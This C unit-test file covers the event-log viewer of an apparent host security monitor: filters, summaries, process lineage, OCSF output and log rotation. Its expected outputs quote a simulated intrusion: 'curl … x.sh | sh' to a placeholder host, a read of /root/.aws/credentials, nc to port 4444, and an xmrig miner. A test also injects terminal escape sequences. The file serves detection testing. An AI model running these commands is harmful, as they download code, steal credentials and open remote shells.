/*
 * test_cmd_events.c - `custos events` against tests/fixtures/events/: each
 * filter with known answers, a .gz rotation written here with zlib,
 * malformed lines, --summary, --tree on a known lineage, --follow.
 *
 * current.jsonl: seq 101..110 (110 lines in all, line 6 and 13 malformed,
 * line 12 empty).  The incident: vllm (pid 1000) -> sh 2001 -> curl 2002,
 * cat 2003, nc 2004.  rotated.jsonl: seq 41..42, the day before.
 * fleet.jsonl: seq 201..205 on two hosts, a container, refused opens and
 * execs, a write+create, a raw socket, a user without a name.  The OCSF
 * rendering of current.jsonl is made here (record_parse, ocsf_render_event)
 * and must give the same answers.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <errno.h>
#include <poll.h>
#include <time.h>
#include <zlib.h>

#include "run_cmd.h"
#include "cmd/events_filter.h"
#include "record/ocsf.h"
#include "record/record.h"

#define CURRENT "tests/fixtures/events/current.jsonl"
#define ROTATED "tests/fixtures/events/rotated.jsonl"
#define FLEET "tests/fixtures/events/fleet.jsonl"

static char dir[] = "/tmp/custos-evXXXXXX";
static char live[256], gz1[256], follow_path[256], ocsf_path[256], current_copy[256];
static struct run_out o;

static int count_lines(const char *s)
{
	int n = 0;

	for (; *s; s++)
		n += *s == '\n';
	return n;
}

static int has_seq(const char *out, int seq)
{
	char key[32];

	snprintf(key, sizeof(key), "\"seq\":%d,", seq);
	return strstr(out, key) != NULL;
}

/* runs `custos events --json ARGS... CURRENT` and returns the line count */
static int query(const char *a1, const char *a2, const char *a3, const char *a4)
{
	char *argv[] = { "custos", "events", "--json", (char *)a1, (char *)a2,
			 (char *)a3, (char *)a4, NULL, NULL };
	int i = 3;

	while (argv[i])
		i++;
	argv[i] = CURRENT;
	assert_int_equal(run_custos(&o, argv), 0);
	/* as ausearch: 0 when records were shown, 1 when none matched */
	assert_int_equal(o.status, count_lines(o.out) ? 0 : 1);
	return count_lines(o.out);
}

/* the same query on fleet.jsonl, as CSV rows (header excluded) */
static int fleet(const char *a1, const char *a2)
{
	char *argv[] = { "custos", "events", "--csv", (char *)a1, (char *)a2, NULL, NULL };
	int n;

	argv[a2 ? 5 : 4] = FLEET;
	assert_int_equal(run_custos(&o, argv), 0);
	n = count_lines(o.out);
	n = n ? n - 1 : 0;
	assert_int_equal(o.status, n ? 0 : 1);
	return n;
}

/* Each record of src rendered as custos' OCSF line into dst, and the line
 * itself into same (fopen mode): malformed lines are in neither. */
static int convert_to_ocsf(const char *src, const char *dst, const char *same,
			   const char *mode)
{
	FILE *in = fopen(src, "r"), *out = fopen(dst, mode), *copy = fopen(same, mode);
	char line[16384];

	if (!in || !out || !copy)
		return -1;
	while (fgets(line, sizeof(line), in)) {
		struct record r;
		struct sbuf b = SBUF_INIT;

		if (record_parse(&r, line, strcspn(line, "\n")) == 0) {
			struct json_rule rule = { r.rule, r.severity, r.action, r.tags, r.n_tags };
			struct json_meta meta = { r.host, r.seq, NULL, NULL, NULL };

			if (ocsf_render_event(&b, &r.ev, r.rule ? &rule : NULL, &meta) == 0) {
				fwrite(b.p, 1, b.len, out);
				fputs(line, copy);
			}
			sbuf_free(&b);
		}
		record_free(&r);
	}
	fclose(in);
	fclose(out);
	fclose(copy);
	return 0;
}

static int setup(void **state)
{
	FILE *in;
	gzFile gz;
	char buf[4096];
	size_t n;

	if (!mkdtemp(dir))
		return -1;
	snprintf(live, sizeof(live), "%s/events.jsonl", dir);
	snprintf(gz1, sizeof(gz1), "%s/events.jsonl.1.gz", dir);
	snprintf(follow_path, sizeof(follow_path), "%s/follow.jsonl", dir);
	snprintf(ocsf_path, sizeof(ocsf_path), "%s/ocsf.jsonl", dir);
	snprintf(current_copy, sizeof(current_copy), "%s/both.jsonl", dir);
	/* both.jsonl: the records of both files; ocsf.jsonl: their OCSF */
	if (convert_to_ocsf(CURRENT, ocsf_path, current_copy, "w") ||
	    convert_to_ocsf(FLEET, ocsf_path, current_copy, "a"))
		return -1;
	/* the current file as is, the older one compressed as logrotate would */
	in = fopen(CURRENT, "r");
	FILE *out = fopen(live, "w");

	if (!in || !out)
		return -1;
	while ((n = fread(buf, 1, sizeof(buf), in)) > 0)
		fwrite(buf, 1, n, out);
	fclose(in);
	fclose(out);
	in = fopen(ROTATED, "r");
	gz = gzopen(gz1, "wb");
	if (!in || !gz)
		return -1;
	while ((n = fread(buf, 1, sizeof(buf), in)) > 0)
		gzwrite(gz, buf, (unsigned)n);
	fclose(in);
	gzclose(gz);
	return 0;
}

static int teardown(void **state)
{
	unlink(live);
	unlink(gz1);
	unlink(follow_path);
	unlink(ocsf_path);
	unlink(current_copy);
	rmdir(dir);
	return 0;
}

static void test_all_and_malformed(void **state)
{
	assert_int_equal(query(NULL, NULL, NULL, NULL), 10);
	assert_non_null(strstr(o.err, CURRENT ":6: malformed record, skipped\n"));
	assert_non_null(strstr(o.err, CURRENT ":13: malformed record, skipped\n"));
	assert_null(strstr(o.err, ":12:"));	/* an empty line is not a record */
}

static void test_json_passes_lines_unchanged(void **state)
{
	FILE *f = fopen(CURRENT, "r");
	char line[8192];
	int found = 0;

	query("--pid", "3100", "--kind", "file");
	assert_non_null(f);
	while (fgets(line, sizeof(line), f))
		if (strstr(line, "\\udcff"))
			found = strcmp(o.out, line) == 0;
	fclose(f);
	assert_true(found);
}

static void test_filter_rule_kind_severity(void **state)
{
	assert_int_equal(query("--rule", "egress-bypass", NULL, NULL), 2);
	assert_true(has_seq(o.out, 105) && has_seq(o.out, 107));
	assert_int_equal(query("--rule", "inference-*", NULL, NULL), 3);
	assert_int_equal(query("--kind", "connect", NULL, NULL), 3);
	assert_int_equal(query("--kind", "loss", NULL, NULL), 1);
	assert_true(has_seq(o.out, 108));
	assert_int_equal(query("--severity", "critical", NULL, NULL), 2);
	assert_int_equal(query("--severity", "high", NULL, NULL), 7);
	assert_int_equal(query("--severity", "low", "--kind", "connect"), 3);
}

static void test_filter_time(void **state)
{
	assert_int_equal(query("--since", "2026-11-23T07:00:01Z", "--until",
			       "2026-11-23T07:05:00Z"), 4);
	assert_true(has_seq(o.out, 104) && has_seq(o.out, 107));
	assert_int_equal(query("--since", "2026-11-23T08:00:00+01:00", "--until",
			       "2026-11-23T07:00:00.5Z"), 2);
	assert_int_equal(query("--since", "100000d", NULL, NULL), 10);
	assert_int_equal(query("--since", "1s", NULL, NULL), 0);
}

static void test_filter_pid_exe_path_dest(void **state)
{
	assert_int_equal(query("--pid", "2002", NULL, NULL), 2);
	assert_int_equal(query("--exe", "/usr/bin/python3*", NULL, NULL), 2);
	assert_int_equal(query("--exe", "**/dash", NULL, NULL), 2);
	assert_int_equal(query("--path", "**/.aws/*", NULL, NULL), 2);
	assert_int_equal(query("--path", "/etc/**", NULL, NULL), 1);
	assert_true(has_seq(o.out, 101));
	assert_int_equal(query("--dest", "203.0.113.0/24", NULL, NULL), 1);
	assert_true(has_seq(o.out, 105));
	assert_int_equal(query("--dest", "0.0.0.0/0:4444", NULL, NULL), 1);
	assert_int_equal(query("--dest", "10.0.0.0/8", NULL, NULL), 1);
	assert_int_equal(query("--dest", "::/0", NULL, NULL), 0);
}

static void test_bad_option_is_usage_error(void **state)
{
	char *argv[] = { "custos", "events", "--since", "someday", CURRENT, NULL };

	assert_int_equal(run_custos(&o, argv), 0);
	assert_int_equal(o.status, 2);
	assert_non_null(strstr(o.err, "--since someday: expected a time in UTC"));
	argv[2] = "--uid";
	argv[3] = "-1";
	assert_int_equal(run_custos(&o, argv), 0);
	assert_int_equal(o.status, 2);
	argv[2] = "--csv";
	argv[3] = "--summary";
	assert_int_equal(run_custos(&o, argv), 0);
	assert_int_equal(o.status, 2);
}

/* ausearch's contract: 1 when nothing matched, never a silent 0 */
static void test_exit_codes(void **state)
{
	char *none[] = { "custos", "events", "--rule", "no-such-rule", CURRENT, NULL };
	char *missing[] = { "custos", "events", "/nonexistent/events.jsonl", NULL };
	char *foreign[] = { "custos", "events", "tests/fixtures/ocsf-schema-1.1.0/version.json",
			    NULL };
	char *summary[] = { "custos", "events", "--summary", "--rule", "no-such-rule", CURRENT,
			    NULL };

	assert_int_equal(run_custos(&o, none), 0);
	assert_int_equal(o.status, 1);
	assert_string_equal(o.out, "");
	assert_non_null(strstr(o.err, "no matching records"));
	assert_int_equal(run_custos(&o, missing), 0);
	assert_int_equal(o.status, 1);
	assert_non_null(strstr(o.err, "/nonexistent/events.jsonl: No such file or directory"));
	/* JSON that is no custos record, in either format: reported, exit 1 */
	assert_int_equal(run_custos(&o, foreign), 0);
	assert_int_equal(o.status, 1);
	assert_non_null(strstr(o.err, "version.json:1: malformed record, skipped"));
	assert_int_equal(run_custos(&o, summary), 0);
	assert_int_equal(o.status, 1);
	assert_non_null(strstr(o.out, "0 records from 1 file(s)"));
}

static void test_time_words(void **state)
{
	struct timespec now;
	uint64_t ns, midnight;
	struct tm tm = { .tm_year = 126, .tm_mon = 11, .tm_mday = 6, .tm_hour = 1,
			 .tm_min = 59, .tm_sec = 30 };

	clock_gettime(CLOCK_REALTIME, &now);
	midnight = (uint64_t)now.tv_sec / 86400 * 86400;
	assert_int_equal(events_parse_when("today", &ns), 0);
	assert_true(ns == midnight * 1000000000ull);
	assert_int_equal(events_parse_when("yesterday", &ns), 0);
	assert_true(ns == (midnight - 86400) * 1000000000ull);
	assert_int_equal(events_parse_when("2026-12-06 01:59:30", &ns), 0);
	assert_true(ns == (uint64_t)timegm(&tm) * 1000000000ull);
	assert_int_equal(events_parse_when("2026-12-06T01:59:30", &ns), 0);
	assert_true(ns == (uint64_t)timegm(&tm) * 1000000000ull);
	assert_int_equal(events_parse_when("2026-12-06", &ns), 0);
	assert_true(ns == (uint64_t)(timegm(&tm) - 3600 - 59 * 60 - 30) * 1000000000ull);
	assert_int_equal(events_parse_when("now", &ns), 0);
	assert_true(ns / 1000000000ull >= (uint64_t)now.tv_sec);
	assert_int_equal(events_parse_when("2026-12-06 25:00:00", &ns), -EINVAL);
	assert_int_equal(events_parse_when("tomorrow", &ns), -EINVAL);
	/* in a query: the fleet's records are on 2026-12-05 and 06 */
	assert_int_equal(fleet("--since", "2026-12-06 01:59:30"), 2);
	assert_int_equal(fleet("--until", "2026-12-06"), 3);
	/* every fixture record is older than today */
	assert_int_equal(query("--until", "today", NULL, NULL), 10);
	assert_int_equal(query("--since", "yesterday", NULL, NULL), 0);
}

static void test_filter_who(void **state)
{
	assert_int_equal(fleet("--host", "gpu-07"), 3);
	assert_int_equal(fleet("--host", "gpu-0?"), 5);
	assert_int_equal(fleet("--uid", "0"), 2);
	assert_int_equal(fleet("--uid", "1001"), 2);
	assert_int_equal(fleet("--user", "vllm"), 1);
	assert_int_equal(fleet("--user", "*"), 3);	/* 1001 has no name */
	assert_int_equal(fleet("--ppid", "5100"), 2);
	assert_int_equal(fleet("--ppid", "1"), 2);
	assert_int_equal(fleet("--container", "4f2b8c1d*"), 3);
	assert_int_equal(fleet("--container", "ffff*"), 0);
	assert_int_equal(fleet("--tag", "custos:guard"), 2);
	assert_int_equal(fleet("--tag", "mitre:*"), 2);
	assert_int_equal(fleet("--blocked", NULL), 2);
	assert_non_null(strstr(o.out, ",model-weights-write,"));
	assert_non_null(strstr(o.out, ",no-miners,"));
	assert_int_equal(query("--blocked", NULL, NULL, NULL), 1);	/* the nc connect */
	assert_true(has_seq(o.out, 107));
	assert_int_equal(query("--ppid", "2001", NULL, NULL), 4);	/* curl twice, cat, nc */
}

static void test_csv_and_tsv(void **state)
{
	char *tsv[] = { "custos", "events", "--tsv", "--rule", "model-*", FLEET, NULL };

	assert_int_equal(fleet("--rule", "model-weights-write"), 1);
	assert_string_equal(o.out,
		"time,host,seq,kind,rule,severity,action,blocked,pid,ppid,uid,user,container,exe,what\n"
		"2026-12-05T22:00:01.500000000Z,gpu-07,202,file,model-weights-write,critical,block,"
		"yes,5101,5100,1001,,4f2b8c1d9e7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c,"
		"/usr/bin/cp,\"write+create /models/llama,7b/w.bin (blocked)\"\n");
	assert_int_equal(run_custos(&o, tsv), 0);
	assert_int_equal(o.status, 0);
	assert_string_equal(o.out,
		"time\thost\tseq\tkind\trule\tseverity\taction\tblocked\tpid\tppid\tuid\tuser\t"
		"container\texe\twhat\n"
		"2026-12-05T22:00:01.500000000Z\tgpu-07\t202\tfile\tmodel-weights-write\tcritical\t"
		"block\tyes\t5101\t5100\t1001\t\t4f2b8c1d9e7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c"
		"\t/usr/bin/cp\twrite+create /models/llama,7b/w.bin (blocked)\n");
	/* a loss record has no process columns */
	assert_int_equal(query("--kind", "loss", NULL, NULL), 1);
}

static void test_summary_by_host_user_file_dest(void **state)
{
	char *argv[] = { "custos", "events", "--summary", FLEET, NULL };

	assert_int_equal(run_custos(&o, argv), 0);
	assert_int_equal(o.status, 0);
	assert_non_null(strstr(o.out, "by host:\n         3  gpu-07\n         2  gpu-08\n"));
	assert_non_null(strstr(o.out, "by user:\n         2  root (0)\n         2  uid 1001\n"
			       "         1  vllm (998)\n"));
	assert_non_null(strstr(o.out, "by file:\n         1  /models/llama,7b/w.bin\n"));
	assert_non_null(strstr(o.out, "by destination:\n         1  198.51.100.9 (raw 1)\n"
			       "         1  198.51.100.9:8443\n"));
}

/* What was refused, and every access of an open, shown in full. */
static void test_table_shows_access_and_refusals(void **state)
{
	char *argv[] = { "custos", "events", "--color", "never", "--host", "gpu-07", FLEET, NULL };

	assert_int_equal(run_custos(&o, argv), 0);
	assert_non_null(strstr(o.out, "  /usr/bin/cp                     write+create "
			       "/models/llama,7b/w.bin (blocked)\n"));
	assert_non_null(strstr(o.out, "exec /tmp/xmrig -o pool (blocked)\n"));
}

/* An ancestor whose exe was not recorded is no empty first entry. */
static void test_tree_unknown_ancestor(void **state)
{
	char *argv[] = { "custos", "events", "--tree", "5100", "--color", "never", FLEET, NULL };

	assert_int_equal(run_custos(&o, argv), 0);
	assert_int_equal(o.status, 0);
	assert_non_null(strstr(o.out, "lineage of 5100: /usr/bin/containerd-shim-runc-v2 > "
			       "/usr/bin/python3.11 [5000] > /usr/bin/dash [5100]\n"));
}

/* The OCSF rendering of the same records gives the same answers. */
static void check_same(char *a1, char *a2)
{
	char *argv[] = { "custos", "events", "--color", "never", a1, a2, NULL, NULL };
	char custos_out[sizeof(o.out)];
	int custos_status, i = a2 ? 6 : a1 ? 5 : 4;

	argv[i] = current_copy;
	assert_int_equal(run_custos(&o, argv), 0);
	memcpy(custos_out, o.out, sizeof(custos_out));
	custos_status = o.status;
	argv[i] = ocsf_path;
	assert_int_equal(run_custos(&o, argv), 0);
	assert_int_equal(o.status, custos_status);
	if (strcmp(o.out, custos_out))
		fail_msg("%s %s: custos lines:\n%s\nOCSF lines:\n%s", a1 ? a1 : "", a2 ? a2 : "",
			 custos_out, o.out);
}

static void test_ocsf_lines_read(void **state)
{
	check_same(NULL, NULL);
	check_same("--summary", NULL);
	check_same("--csv", NULL);
	check_same("--tree", "1000");
	check_same("--tree", "5100");
	check_same("--kind", "connect");
	check_same("--dest", "203.0.113.0/24");
	check_same("--path", "**/.aws/*");
	check_same("--blocked", NULL);
	check_same("--tag", "mitre:*");
	check_same("--host", "gpu-07");
	check_same("--user", "vllm");
	check_same("--container", "4f2b*");
	check_same("--ppid", "5100");
	check_same("--severity", "critical");
	check_same("--rule", "no-such-rule");
}

static void test_gz_rotation_read_first(void **state)
{
	char *argv[] = { "custos", "events", "--json", live, NULL };
	char *pos41, *pos101;

	assert_int_equal(run_custos(&o, argv), 0);
	assert_int_equal(o.status, 0);
	assert_int_equal(count_lines(o.out), 12);
	pos41 = strstr(o.out, "\"seq\":41,");
	pos101 = strstr(o.out, "\"seq\":101,");
	assert_non_null(pos41);
	assert_non_null(pos101);
	assert_true(pos41 < pos101);	/* oldest first */
	assert_true(has_seq(o.out, 42));
	/* naming the .gz on its own reads just it */
	argv[3] = gz1;
	assert_int_equal(run_custos(&o, argv), 0);
	assert_int_equal(count_lines(o.out), 2);
	assert_true(strstr(o.out, "2001:db8::7") != NULL);
}

static void test_summary(void **state)
{
	char *argv[] = { "custos", "events", "--summary", live, NULL };

	assert_int_equal(run_custos(&o, argv), 0);
	assert_int_equal(o.status, 0);
	assert_non_null(strstr(o.out, "12 records from 2 file(s), 2026-11-22T23:30:00Z .. "
			       "2026-11-23T07:10:05Z (2 malformed lines skipped)\n"));
	assert_non_null(strstr(o.out, "by rule:\n         3  egress-bypass\n"));
	assert_non_null(strstr(o.out, "by severity:\n         7  high\n         2  critical\n"));
	assert_non_null(strstr(o.out, "         1  /usr/bin/nc.openbsd\n"));
}

static void test_tree(void **state)
{
	char *argv[] = { "custos", "events", "--tree", "1000", "--color", "never", CURRENT, NULL };

	assert_int_equal(run_custos(&o, argv), 0);
	assert_int_equal(o.status, 0);
	assert_string_equal(o.out,
		"lineage of 1000: /usr/lib/systemd/systemd > /opt/vllm/venv/bin/python3 [1000]\n"
		"TIME (UTC)           SEVERITY  RULE                                        PID  EXE                             WHAT\n"
		"2026-11-23 07:00:00  high      inference-server-spawns-shell              2001    /usr/bin/dash                 exec sh -c curl -s http://203.0.113.7/x.sh | sh\n"
		"2026-11-23 07:00:00  high      inference-cgroup-spawns-shell              2001    /usr/bin/dash                 exec sh -c curl -s http://203.0.113.7/x.sh | sh\n"
		"2026-11-23 07:00:01  high      inference-cgroup-spawns-network-tool       2002      /usr/bin/curl               exec curl -s http://203.0.113.7/x.sh\n"
		"2026-11-23 07:00:01  high      egress-bypass                              2002      /usr/bin/curl               tcp 203.0.113.7:80\n"
		"2026-11-23 07:00:02  critical  secret-file-access                         2003      /usr/bin/cat                read /root/.aws/credentials\n"
		"2026-11-23 07:00:03  high      egress-bypass                              2004      /usr/bin/nc.openbsd         tcp 198.51.100.4:4444 (blocked)\n");
}

static void test_table_escapes_bytes(void **state)
{
	char *argv[] = { "custos", "events", "--pid", "3100", "--kind", "file", CURRENT, NULL };

	assert_int_equal(run_custos(&o, argv), 0);
	assert_non_null(strstr(o.out, "read /home/svc/.aws/credentials\\xff\n"));
}

/* Waits up to 5 s for want in the child's output (appended to buf). */
static int wait_for(int fd, char *buf, size_t size, size_t *got, const char *want)
{
	struct timespec t0, t;

	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (;;) {
		struct pollfd pfd = { .fd = fd, .events = POLLIN };
		ssize_t r;

		if (strstr(buf, want))
			return 1;
		clock_gettime(CLOCK_MONOTONIC, &t);
		if (t.tv_sec - t0.tv_sec > 5)
			return 0;
		if (poll(&pfd, 1, 200) <= 0)
			continue;
		r = read(fd, buf + *got, size - 1 - *got);
		if (r <= 0)
			return 0;
		*got += (size_t)r;
		buf[*got] = '\0';
	}
}

static void append(const char *path, const char *text)
{
	FILE *f = fopen(path, "a");

	assert_non_null(f);
	fputs(text, f);
	fclose(f);
}

#define LOSS_LINE(seq) \
	"{\"schema\":\"custos.event/1\",\"time\":\"2026-11-23T08:00:00Z\",\"seq\":" #seq "," \
	"\"kind\":\"loss\",\"loss\":{\"lost\":1,\"where\":\"ring\"}}\n"

/* A NUL byte hid the record after it (fgets + strlen merged the next line
 * into the malformed one): now it spoils only its own line, plain or .gz. */
static void test_nul_byte_hides_no_record(void **state)
{
	static const char good[] = LOSS_LINE(8);
	char bad[] = LOSS_LINE(7), path[300], gzpath[300];
	char *argv[] = { "custos", "events", "--json", path, NULL };
	char *sum[] = { "custos", "events", "--summary", gzpath, NULL };
	FILE *f;
	gzFile gz;

	bad[20] = '\0';
	snprintf(path, sizeof(path), "%s/nul.jsonl", dir);
	snprintf(gzpath, sizeof(gzpath), "%s/nul.jsonl.gz", dir);
	f = fopen(path, "w");
	gz = gzopen(gzpath, "wb");
	assert_non_null(f);
	assert_non_null(gz);
	fwrite(bad, 1, sizeof(bad) - 1, f);
	fwrite(good, 1, sizeof(good) - 1, f);
	fclose(f);
	gzwrite(gz, bad, sizeof(bad) - 1);
	gzwrite(gz, good, sizeof(good) - 1);
	gzclose(gz);
	assert_int_equal(run_custos(&o, argv), 0);
	assert_int_equal(o.status, 0);
	assert_string_equal(o.out, good);
	assert_non_null(strstr(o.err, "nul.jsonl:1: malformed record, skipped\n"));
	assert_null(strstr(o.err, ":2:"));
	assert_int_equal(run_custos(&o, sum), 0);
	assert_non_null(strstr(o.out, "1 records from 1 file(s)"));
	assert_non_null(strstr(o.out, "(1 malformed lines skipped)"));
	unlink(path);
	unlink(gzpath);
}

/* A tampered file's rule, severity, destination and loss fields reach the
 * table and the summary escaped, as paths always did: no ESC, no C1 CSI */
static void test_terminal_escapes_in_every_field(void **state)
{
	static const char recs[] =
		"{\"time\":\"2026-11-23T08:00:00Z\",\"seq\":1,\"kind\":\"connect\","
		"\"rule\":\"x\\u001b]0;owned\\u0007\",\"severity\":\"hi\\u001b[2J\","
		"\"process\":{\"pid\":5,\"exe\":\"/bin/x\"},"
		"\"connect\":{\"proto\":\"tcp\",\"dest\":\"1\\u009b31m\",\"port\":1}}\n"
		"{\"time\":\"2026-11-23T08:00:01Z\",\"seq\":2,\"kind\":\"loss\","
		"\"loss\":{\"lost\":1,\"where\":\"ring\\u001b[1A\\u202e\"}}\n";
	char path[300];
	char *table[] = { "custos", "events", path, NULL };
	char *sum[] = { "custos", "events", "--summary", path, NULL };

	snprintf(path, sizeof(path), "%s/esc.jsonl", dir);
	write_file(path, recs);
	assert_int_equal(run_custos(&o, table), 0);
	assert_int_equal(o.status, 0);
	assert_no_terminal_controls(o.out);
	assert_non_null(strstr(o.out, "hi\\x1b[2J"));
	assert_non_null(strstr(o.out, "x\\x1b]0;owned\\x07"));
	assert_non_null(strstr(o.out, "tcp 1\\xc2\\x9b31m:1"));
	assert_non_null(strstr(o.out, "1 events lost at ring\\x1b[1A\\xe2\\x80\\xae"));
	assert_int_equal(run_custos(&o, sum), 0);
	assert_no_terminal_controls(o.out);
	assert_non_null(strstr(o.out, "x\\x1b]0;owned\\x07"));
	assert_non_null(strstr(o.out, "hi\\x1b[2J"));
	unlink(path);
}

static void test_follow_picks_up_appended_lines(void **state)
{
	char *argv[] = { "custos", "events", "--follow", "--json", follow_path, NULL };
	char buf[4096] = "", rotated[300];
	size_t got = 0;
	int p[2], st;
	pid_t pid;

	write_file(follow_path, "");
	assert_int_equal(pipe(p), 0);
	pid = fork();
	if (pid == 0) {
		dup2(p[1], 1);
		close(p[0]);
		alarm(20);
		execv(CUSTOS_BIN, argv);
		_exit(127);
	}
	close(p[1]);
	usleep(300 * 1000);	/* the child is at the end of the empty file */
	append(follow_path, LOSS_LINE(998));
	assert_true(wait_for(p[0], buf, sizeof(buf), &got, "\"seq\":998"));
	/* a line written in two parts is passed on once, whole */
	append(follow_path, "{\"schema\":\"custos.event/1\",");
	usleep(450 * 1000);
	append(follow_path, "\"kind\":\"loss\",\"seq\":999}\n");
	assert_true(wait_for(p[0], buf, sizeof(buf), &got, "\"seq\":999"));
	/* logrotate: the file is renamed and a new one created */
	snprintf(rotated, sizeof(rotated), "%s.1", follow_path);
	assert_int_equal(rename(follow_path, rotated), 0);
	write_file(follow_path, LOSS_LINE(1000));
	assert_true(wait_for(p[0], buf, sizeof(buf), &got, "\"seq\":1000"));
	kill(pid, SIGTERM);
	waitpid(pid, &st, 0);
	close(p[0]);
	unlink(rotated);
	assert_string_equal(buf, LOSS_LINE(998)
			    "{\"schema\":\"custos.event/1\",\"kind\":\"loss\",\"seq\":999}\n"
			    LOSS_LINE(1000));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_all_and_malformed),
		cmocka_unit_test(test_nul_byte_hides_no_record),
		cmocka_unit_test(test_terminal_escapes_in_every_field),
		cmocka_unit_test(test_json_passes_lines_unchanged),
		cmocka_unit_test(test_filter_rule_kind_severity),
		cmocka_unit_test(test_filter_time),
		cmocka_unit_test(test_filter_pid_exe_path_dest),
		cmocka_unit_test(test_bad_option_is_usage_error),
		cmocka_unit_test(test_exit_codes),
		cmocka_unit_test(test_time_words),
		cmocka_unit_test(test_filter_who),
		cmocka_unit_test(test_csv_and_tsv),
		cmocka_unit_test(test_summary_by_host_user_file_dest),
		cmocka_unit_test(test_table_shows_access_and_refusals),
		cmocka_unit_test(test_tree_unknown_ancestor),
		cmocka_unit_test(test_ocsf_lines_read),
		cmocka_unit_test(test_gz_rotation_read_first),
		cmocka_unit_test(test_summary),
		cmocka_unit_test(test_tree),
		cmocka_unit_test(test_table_escapes_bytes),
		cmocka_unit_test(test_follow_picks_up_appended_lines),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
